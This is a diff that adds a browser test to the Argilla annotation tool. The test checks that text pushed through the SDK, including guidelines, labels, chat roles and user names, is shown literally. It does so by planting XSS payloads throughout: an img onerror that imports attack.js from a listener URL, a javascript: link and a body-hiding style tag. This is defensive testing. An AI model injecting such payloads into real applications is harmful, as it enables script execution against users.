@@ -365,3 +365,99 @@ def test_an_answer_holds_the_exact_text_whether_or_not_it_is_edited(
     context.close()
     given = {answer.record: answer.values[forms.EDITED_COMPLETION] for answer in pull_answers(review, "exact-answers")}
     assert given == {name: f"{'<i>' if text in edited else ''}Answer: {text}" for name, text in texts.items()}
+
+
+GUIDE = """# Guide
+
+Prefer `Map<K, V>` to List<String> {img}
+
+<style>body{{display:none}}</style>
+
+<!-- a comment -->
+
+[note]: # (a link definition)
+
+```html
+<b>{img}</b>
+```
+
+| a | b |
+|---|---|
+| `x<y` | <b>1</b> |
+
+![remote]({url}) [link](javascript:{js})
+"""
+
+
+def test_what_any_client_pushes_is_shown_as_text(
+    argilla_home: RunningArgilla, review: ArgillaReview, listener: Listener, browser: Any
+) -> None:
+    """Every kind of text that the SDK accepts: guidelines, titles, labels, descriptions, chats, Markdown, spans, terms, people's names."""
+    import argilla as rg
+
+    listener.asked.clear()
+    url = f"http://127.0.0.1:{listener.port}/attack.js?sdk"
+    img = f"<img src=x onerror=import('{url}')>"
+    guide = GUIDE.format(img=img, url=url, js=f"import('{url}')")
+    settings = rg.Settings(
+        guidelines=guide,
+        fields=[
+            rg.TextField("plain", title=f"Plain {img}"),
+            rg.TextField("marked", use_markdown=True),
+            rg.ChatField("talk", use_markdown=False),
+            rg.ChatField("marked_talk", use_markdown=True),
+            rg.TextField("spanned"),
+        ],
+        questions=[
+            rg.LabelQuestion("verdict", labels={"approve": f"Yes {img}", "reject": "No"}, title=f"Title {img}", description=f"About {img}"),
+            rg.SpanQuestion("spans", field="spanned", labels={"part": f"Part {img}"}, required=False),
+            rg.TextQuestion("note", required=False, use_markdown=True),
+        ],
+        metadata=[rg.TermsMetadataProperty("kind", title=f"Kind {img}")],
+    )
+    dataset = rg.Dataset(name="sdk", workspace=WORKSPACE, settings=settings, client=review.client).create()
+    text = f"{img}<b>bold</b> List<String>"
+    chat = [{"role": "<b>u</b>", "content": text}]
+    dataset.records.log([
+        rg.Record(
+            fields={"plain": text, "marked": guide, "talk": chat, "marked_talk": [{"role": "user", "content": guide}], "spanned": text},
+            metadata={"kind": f"term {img}"},
+            suggestions=[rg.Suggestion("note", guide, agent="machine")],
+        )
+    ])  # fmt: skip
+    person = {"first_name": img, "last_name": img, "username": "eve", "password": "password-of-eve", "role": "annotator"}
+    made = httpx.post(f"{review.url}/api/v1/users", headers={"X-Argilla-Api-Key": review.key}, json=person).json()
+    workspace = review.client.workspaces(WORKSPACE).id
+    joined = httpx.post(
+        f"{review.url}/api/v1/workspaces/{workspace}/users", headers={"X-Argilla-Api-Key": review.key}, json={"user_id": made["id"]}
+    )
+    assert joined.status_code == 201
+    context = logged_in(browser, argilla_home.url, Account("eve", "annotator", (), "", "password-of-eve"))
+    with page_with(context, policy=True, literal=True) as page:
+        page.goto(f"{argilla_home.url}/dataset/{dataset.id}/annotation-mode")
+        page.locator(".record .content-area").first.wait_for()
+        page.get_by_text("Guidelines").first.click()
+        page.locator("h1", has_text="Guide").last.wait_for()
+        picture(page, "hostile-sdk", shows=["Guide", "<!-- a comment -->", "List<String>", "(a link definition)"])
+        markdown = page.locator(".markdown-render").all()
+        for shown in [one.inner_text() for one in markdown]:
+            seen = [f"Prefer Map<K, V> to List<String> {img}", "<style>body{display:none}</style>", "<!-- a comment -->",
+                    "[note]: # (a link definition)", f"<b>{img}</b>", "x<y", "<b>1</b>"]  # fmt: skip
+            assert [part for part in seen if part not in shown] == []
+        assert len(markdown) >= 3 and page.locator(".markdown-render table").count() == len(markdown)
+        assert page.locator(".record .content-area").first.locator("> div").text_content() == text
+        assert page.locator(".chat__bubble > span").first.text_content() == text
+        assert page.locator(".span-annotation__field, .span-annotation__field--overlapped").first.text_content() == text
+        body = page.locator("body").inner_text()
+        assert [part for part in (f"Plain {img}", f"Title {img}", f"Yes {img}", f"Part {img}") if part not in body] == []
+        page.locator(".icon-info").first.click()
+        page.get_by_text(f"About {img}").first.wait_for()
+        page.get_by_text("Filters").first.click()
+        page.get_by_text("Metadata").first.click()
+        page.locator(".dropdown__content").get_by_text(f"Kind {img}").first.click()
+        page.locator(".dropdown__content").get_by_text(f"term {img}").first.click()
+        for path in ("user-settings", "datasets"):
+            page.goto(f"{argilla_home.url}/{path}")
+            page.wait_for_load_state("networkidle")
+    context.close()
+    assert listener.asked == []
